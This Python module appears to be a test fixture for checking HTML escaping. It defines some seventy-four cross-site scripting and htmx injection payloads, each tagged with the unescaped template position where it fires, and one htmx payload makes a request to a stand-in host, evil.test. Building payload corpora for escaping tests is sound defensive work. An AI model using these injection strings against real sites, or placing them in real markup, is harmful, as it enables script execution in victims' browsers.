"""Sixty texts that run a script, and fourteen that make htmx act, where a page takes text for markup.

``§`` stands for the payload's number. What runs calls ``F(§)``; what makes htmx ask, asks ``/F/§``; what makes it write
into the page leaves ``F§`` there. All are short, so that they fit into every field.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass

# How a careless template would write a text: between tags, in an attribute, as an address, in a script …
PLACES: Mapping[str, str] = {
    "text": "<div>{}</div>",
    "double": '<div><input value="{}"></div>',
    "single": "<div><input value='{}'></div>",
    "bare": "<div><input value={}></div>",
    "link": '<div><a href="{}">x</a></div>',
    "script": '<script>var a = "{}"</script>',
    "field": "<div><textarea>{}</textarea></div>",
    "remark": "<div><!-- {} --></div>",
}
SCRIPTS: Sequence[tuple[str, str]] = (
    ("text", "<script>F(§)</script>"),
    ("text", "<ScRiPt>F(§)</sCrIpT>"),
    ("text", '<script src="data:,F(§)"></script>'),
    ("text", "<script/x>F(§)</script>"),
    ("text", "<script type=module>F(§)</script>"),
    ("text", "<svg><script>F(§)</script></svg>"),
    ("text", "<svg><script>&#70;(§)</script></svg>"),
    ("text", "<img src=x onerror=F(§)>"),
    ("text", '<img/src="x"/onerror=F(§)>'),
    ("text", '<img src=x oNeRrOr="F(§)">'),
    ("text", "<img src=x onerror=&#70;(§)>"),
    ("text", r"<img src=x onerror=\u0046(§)>"),
    ("text", "<img src onerror=F(§)>"),
    ("text", "<img srcset=x onerror=F(§)>"),
    ("text", "<image src=x onerror=F(§)>"),
    ("text", "<svg onload=F(§)></svg>"),
    ("text", "<svg/onload=F(§)></svg>"),
    ("text", "<svg><animate onbegin=F(§) attributeName=x dur=1s></svg>"),
    ("text", "<svg><set onbegin=F(§) attributeName=x to=1></svg>"),
    ("text", "<svg><image href=x onerror=F(§)></svg>"),
    ("text", "<body onload=F(§)>"),
    ("text", "<video src=x onerror=F(§)></video>"),
    ("text", "<video><source onerror=F(§) src=x></video>"),
    ("text", "<audio src=x onerror=F(§)></audio>"),
    ("text", "<iframe onload=F(§)></iframe>"),
    ("text", "<iframe src=javascript:top.F(§)></iframe>"),
    ("text", '<iframe srcdoc="<script>top.F(§)</script>"></iframe>'),
    ("text", "<object data=x onerror=F(§)></object>"),
    ("text", "<link rel=stylesheet href=x onerror=F(§)>"),
    ("text", "<style onload=F(§)>x{}</style>"),
    ("text", "<details open ontoggle=F(§)>x</details>"),
    ("text", "<input autofocus onfocus=F(§)>"),
    ("text", "<select autofocus onfocus=F(§)></select>"),
    ("text", "<textarea autofocus onfocus=F(§)></textarea>"),
    ("text", "<button onclick=F(§)>x</button>"),
    ("text", "<p onpointerover=F(§)>x</p>"),
    ("text", "<p tabindex=1 onfocus=F(§)>x</p>"),
    ("text", "<x onclick=F(§)>x</x>"),
    ("text", "<a href=javascript:F(§)>x</a>"),
    ("text", '<a href="java&#9;script:F(§)">x</a>'),
    ("text", "<a href=&#106;avascript:F(§)>x</a>"),
    ("text", "<svg><a xlink:href=javascript:F(§)>x</a></svg>"),
    ("text", "<form action=javascript:F(§)><button>x</button></form>"),
    ("text", "<form><button formaction=javascript:F(§)>x</form>"),
    ("text", '<noscript><p title="</noscript><img src=x onerror=F(§)>">'),
    ("text", "<p onanimationstart=F(§)>x</p>"),
    ("text", "<dialog open onclose=F(§)>x</dialog>"),
    ("double", '"><script>F(§)</script>'),
    ("double", '" autofocus onfocus=F(§) x="'),
    ("double", '" onpointerover=F(§) x="'),
    ("single", "'><img src=x onerror=F(§)>"),
    ("single", "' autofocus onfocus=F(§) x='"),
    ("bare", "x onfocus=F(§) autofocus"),
    ("link", "javascript:F(§)"),
    ("link", "JaVaScRiPt:F(§)"),
    ("link", "java\nscript:F(§)"),
    ("link", "javascript://%0aF(§)"),
    ("script", '";F(§);"'),
    ("field", "</textarea><img src=x onerror=F(§)>"),
    ("remark", "--><img src=x onerror=F(§)>"),
)
HTMX: Sequence[str] = (
    "<p hx-get=/F/§ hx-trigger=load>x</p>",
    "<p hx-post=/F/§ hx-trigger=load>x</p>",
    "<p hx-put=/F/§ hx-trigger=revealed>x</p>",
    "<a hx-get=/F/§>x</a>",
    "<form hx-delete=/F/§><button>x</button></form>",
    "<p hx-swap-oob=beforeend:#dialog>F§</p>",
    "<p hx-ignore><i hx-swap-oob=beforeend:body>F§</i></p>",
    "<hx-partial hx-target=.skip>F§</hx-partial>",
    "<template hx type=partial hx-target=#toasts>F§</template>",
    "<title>F§</title>",
    "<p hx-on:click=F(§)>x</p>",
    '<p hx-get=/F/§ hx-vals="js:{a:F(§)}" hx-trigger=load>x</p>',
    "<p hx-get=//evil.test/F/§ hx-trigger=load>x</p>",
    "<p data-hx-get=/F/§ data-hx-trigger=load>x</p>",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, and where in careless markup it does what it is for."""

    number: int
    place: str
    text: str

    @property
    def raw(self) -> str:
        """The markup of a template that forgot to escape it."""
        return PLACES[self.place].format(self.text)


PAYLOADS = tuple(
    Payload(number, place, text.replace("§", str(number)))
    for number, (place, text) in enumerate([*SCRIPTS, *(("text", text) for text in HTMX)], 1)
)
BY_SCRIPT = frozenset(range(1, len(SCRIPTS) + 1))
BY_HTMX = frozenset(range(len(SCRIPTS) + 1, len(PAYLOADS) + 1))
# What does nothing here even where nobody escaped it: a page has a title already, `trusted.js` evaluates nothing, htmx
# asks this console only and reads no attribute with a prefix.
HELD = frozenset(range(len(PAYLOADS) - 4, len(PAYLOADS) + 1))
LONGEST = max(len(each.text) for each in PAYLOADS)
